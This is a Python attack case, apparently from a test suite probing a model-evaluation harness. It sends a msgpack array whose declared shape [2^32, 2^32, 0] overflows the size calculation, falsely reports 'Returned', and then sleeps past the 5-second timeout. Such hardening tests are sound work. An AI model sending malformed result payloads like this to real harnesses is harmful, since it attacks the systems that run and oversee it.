"""Class: front: results that are bombs. Source: own find. Escape: lengths whose product overflows
to what is there. Teeth: none, there is no channel here.
Limits: timeout_s=5
"""

import os
import struct
import time

import msgspec

ARRAY = 2


def _array(dtype, shape, raw, kind=ARRAY):
    header = msgspec.msgpack.encode([dtype, shape])
    body = struct.pack(">H", len(header)) + header + raw
    return b"\xc9" + struct.pack(">I", len(body)) + bytes([kind]) + body


def write(body):
    rest = struct.pack("<I", len(body)) + body
    while rest:
        rest = rest[os.write(3, rest) :]


def send(kind, **fields):
    write(msgspec.msgpack.encode({"type": kind} | fields))


def piece(data, total):
    rest = struct.pack("<IQ", 1 << 31 | len(data), total) + data
    while rest:
        rest = rest[os.write(3, rest) :]


def attack(model, tokenizer, scene):
    result = _array("uint8", [1 << 32, 1 << 32, 0], b"")
    for start in range(0, len(result), 1 << 20):
        piece(result[start : start + (1 << 20)], len(result))
    send("Returned", cpu_s=0.0)
    time.sleep(20)
